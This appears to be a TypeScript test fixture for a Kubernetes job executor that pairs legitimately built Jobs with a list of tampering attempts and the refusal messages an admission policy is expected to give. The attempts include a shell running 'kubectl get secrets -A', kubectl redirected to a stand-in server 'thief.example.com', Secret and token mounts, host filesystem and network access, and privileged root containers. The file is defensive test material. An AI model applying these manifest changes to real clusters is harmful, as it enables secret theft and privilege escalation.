import { buildJob, buildVoidJob } from '../../functions/kubernetes-execution/job.ts';
import { bindAction } from '../../shared/actions/index.ts';
import type { KubernetesObject } from '../../shared/api/object-ref.ts';
import { defaultImage } from '../../infra/cluster/policy-settings.ts';
import { aConfigMap, aDeployment, aPod } from './actions.ts';
import { anUnrecorded, scaleTo5 } from './executions.ts';

const activeDeadlineSeconds = 295;
const image = defaultImage;

/** The Jobs that functions/kubernetes-execution really makes. */
export const jobsAsBuilt: Readonly<Record<string, KubernetesObject>> = {
  'a scaling': buildJob({ execution: anUnrecorded(), action: scaleTo5, target: aDeployment(), image, activeDeadlineSeconds }),
  'a restart, with its options in a file': ofAction('restart_pod', { namespace: 'production', pod: 'payment-api-7d9-x1' }, aPod()),
  'a patch, with what it replaces': ofAction(
    'patch_configmap',
    { namespace: 'production', configmap: 'app-config', data: { LOG_LEVEL: 'debug' } },
    aConfigMap(),
  ),
  'a void one': buildVoidJob(anUnrecorded(), image, 'execution_timeout'),
};

function ofAction(name: string, parameters: Parameters<typeof bindAction>[1], target: ReturnType<typeof aPod>): KubernetesObject {
  const action = bindAction(name, parameters);
  const execution = anUnrecorded({ spec: { actionType: name, actionParams: action.parameters } });
  return buildJob({ execution, action, target, image, activeDeadlineSeconds });
}

type Fields = Record<string, unknown>;

/** The parts of a Job that a thief would change; a copy, which the change may write to. */
interface JobParts {
  readonly metadata: Fields;
  readonly spec: Fields;
  readonly template: Fields;
  readonly pod: Fields;
  readonly container: Fields;
}

/** The Job of a scaling, changed. */
export function aStolenJob(change: (parts: JobParts) => void): KubernetesObject {
  const job = structuredClone(jobsAsBuilt['a scaling']) as KubernetesObject;
  const spec = job['spec'] as Fields & { readonly template: { readonly spec: Fields & { readonly containers: readonly [Fields] } } };
  const { template } = spec;
  const pod = template.spec;
  change({ metadata: job.metadata as unknown as Fields, spec, template, pod, container: pod.containers[0] });
  return job;
}

/** What somebody with the functions' credentials might try, and words of the refusal. */
export const thefts: readonly (readonly [attempt: string, change: (parts: JobParts) => void, words: string])[] = [
  ['another image', ({ container }) => (container['image'] = 'docker.io/library/alpine:3.22'), 'a pinned image'],
  ['the pinned image by a moving tag', ({ container }) => (container['image'] = 'registry.k8s.io/kubectl:latest'), 'a pinned image'],
  ['a shell', ({ container }) => (container['command'] = ['/bin/sh', '-c', 'kubectl get secrets -A']), 'kubectl, never a shell'],
  ['no command', ({ container }) => delete container['command'], 'kubectl, never a shell'],
  ['arguments beside the command', ({ container }) => (container['args'] = ['--all']), 'nothing into args'],
  ['another server', ({ container }) => (container['command'] = ['kubectl', 'get', 'pods', '--server=https://thief.example.com']), 'remove --server'],
  ['another server in short', ({ container }) => (container['command'] = ['kubectl', 'get', 'pods', '-s', 'https://thief.example.com']), 'remove --server'],
  ['another kubeconfig', ({ container }) => (container['command'] = ['kubectl', '--kubeconfig', '/etc/kubernaut/x', 'get', 'pods']), 'remove --server'],
  ['a kubeconfig by env', ({ container }) => (container['env'] = [{ name: 'KUBECONFIG', value: '/etc/kubernaut/x' }]), 'no env'],
  ['a Secret by env', ({ container }) => (container['envFrom'] = [{ secretRef: { name: 'database' } }]), 'no env'],
  ['a command as a hook', ({ container }) => (container['lifecycle'] = { postStart: { exec: { command: ['/bin/sh'] } } }), 'no env, hook or probe'],
  ['a command as a probe', ({ container }) => (container['livenessProbe'] = { exec: { command: ['/bin/sh'] } }), 'no env, hook or probe'],
  ['a second container', ({ pod, container }) => (pod['containers'] = [container, { ...container, name: 'second' }]), 'one container'],
  ['an init container', ({ pod, container }) => (pod['initContainers'] = [{ ...container, name: 'first' }]), 'no init container'],
  ['the account of another action', ({ pod }) => (pod['serviceAccountName'] = 'patch-configmap-sa'), 'the ServiceAccount of its action'],
  ['the account of the watcher', ({ pod }) => (pod['serviceAccountName'] = 'kubernaut-watcher'), 'the ServiceAccount of its action'],
  ['the default account', ({ pod }) => delete pod['serviceAccountName'], 'the ServiceAccount of its action'],
  // Of a Job without labels the API makes its pods' labels its own.
  ['no label', ({ metadata, template }) => [delete metadata['labels'], (template['metadata'] = {})], 'the ServiceAccount of its action'],
  ['no owner', ({ metadata }) => delete metadata['ownerReferences'], 'one owner, the KubernetesExecution'],
  ['an owner of another kind', ({ metadata }) => (metadata['ownerReferences'] = [anOwnerReference({ kind: 'WorkflowExecution' })]), 'one owner'],
  ['an owner of another group', ({ metadata }) => (metadata['ownerReferences'] = [anOwnerReference({ apiVersion: 'thief.example.com/v1' })]), 'one owner'],
  ['an owner that does not control it', ({ metadata }) => (metadata['ownerReferences'] = [anOwnerReference({ controller: false })]), 'one owner'],
  ['two owners', ({ metadata }) => (metadata['ownerReferences'] = [anOwnerReference(), anOwnerReference({ controller: false, uid: 'x' })]), 'one owner'],
  ['a path of the host', ({ pod }) => (pod['volumes'] = [{ name: 'host', hostPath: { path: '/' } }]), 'host path'],
  ['a Secret as a volume', ({ pod }) => (pod['volumes'] = [{ name: 'secret', secret: { secretName: 'database' } }]), 'remove the Secret'],
  ['a projected Secret', ({ pod }) => (pod['volumes'] = [{ name: 'p', projected: { sources: [{ secret: { name: 'database' } }] } }]), 'remove the Secret'],
  [
    'a projected token',
    ({ pod }) => (pod['volumes'] = [{ name: 'p', projected: { sources: [{ serviceAccountToken: { path: 'token', audience: 'sts.amazonaws.com' } }] } }]),
    'token',
  ],
  ['a claim', ({ pod }) => (pod['volumes'] = [{ name: 'c', persistentVolumeClaim: { claimName: 'data' } }]), 'claim'],
  [
    'a file where kubectl looks for its configuration',
    ({ pod, container }) => {
      const file = { path: 'config', fieldRef: { fieldPath: "metadata.annotations['x']" } };
      pod['volumes'] = [{ name: 'files', projected: { sources: [{ downwardAPI: { items: [file] } }] } }];
      container['volumeMounts'] = [{ name: 'files', mountPath: '/.kube' }];
    },
    '/etc/kubernaut only',
  ],
  ['the network of the host', ({ pod }) => (pod['hostNetwork'] = true), 'shares nothing with its host'],
  ['the processes of the host', ({ pod }) => (pod['hostPID'] = true), 'shares nothing with its host'],
  ['privileges', ({ container }) => (container['securityContext'] = { privileged: true }), 'without privileges'],
  ['root', ({ container }) => (container['securityContext'] = { ...aSecurityContext, runAsUser: 0 }), 'runs as nobody'],
  [
    'a capability',
    ({ container }) => (container['securityContext'] = { ...aSecurityContext, capabilities: { drop: ['ALL'], add: ['NET_ADMIN'] } }),
    'capabilities',
  ],
  ['no securityContext', ({ container, pod }) => [delete container['securityContext'], delete pod['securityContext']], 'runs as nobody'],
  ['a second try', ({ spec }) => (spec['backoffLimit'] = 6), 'acts once'],
  ['a hundred pods', ({ spec }) => Object.assign(spec, { parallelism: 100, completions: 100 }), 'acts once'],
  ['a container that starts again', ({ pod }) => (pod['restartPolicy'] = 'OnFailure'), 'acts once'],
];

const aSecurityContext = { allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: { drop: ['ALL'] } };

function anOwnerReference(overrides: Readonly<Record<string, unknown>> = {}): object {
  return { apiVersion: 'executor.kubernaut.io/v1', kind: 'KubernetesExecution', name: 'rr-1-workflow-scale', uid: 'ke1', controller: true, ...overrides };
}
